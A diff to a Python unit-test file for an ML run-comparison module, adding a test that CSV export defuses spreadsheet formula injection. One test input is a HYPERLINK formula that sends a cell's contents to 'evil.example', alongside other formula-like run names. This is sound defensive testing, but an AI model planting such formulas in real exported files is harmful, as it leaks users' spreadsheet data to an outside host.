@@ -1,10 +1,20 @@
 """core.evaluate.comparison: the runs table and the curve rows."""
 
+import csv
+import io
 import math
 
+import pandas as pd
 import pytest
 
-from core.evaluate.comparison import comparison_table, curve_metrics, curve_rows, overfitting_note, spec_summary
+from core.evaluate.comparison import (
+    comparison_table,
+    csv_text,
+    curve_metrics,
+    curve_rows,
+    overfitting_note,
+    spec_summary,
+)
 from core.store.records import EPOCHS_DONE, SECONDS_DONE
 from tests.unit.test_store import record
 
@@ -113,3 +123,15 @@ def test_overfitting_note_fires_on_a_true_overfit():
     # The same curves without the rise in training accuracy: not memorising after all.
     run.history["accuracy"] = [0.80, 0.91, 0.91, 0.90, 0.91, 0.91]
     assert overfitting_note(run) is None
+
+
+def test_the_csv_makes_formulas_plain_text_and_keeps_numbers():
+    first, second = two_runs()
+    first.name = '=HYPERLINK("http://evil.example/?leak="&B2,"Open results")'
+    second.name = "-2+3"
+    rows = list(csv.reader(io.StringIO(csv_text(comparison_table([first, second])))))
+    names = [row[0] for row in rows[1:]]
+    assert names == ['\'=HYPERLINK("http://evil.example/?leak="&B2,"Open results")', "'-2+3"]
+    assert rows[1][1] == "0.81"  # a number is still a number
+    assert csv_text(pd.DataFrame({"run": ["@SUM(A1)", "\tx", "plain"]})).splitlines()[1:] == ["'@SUM(A1)", "'\tx",
+                                                                                             "plain"]
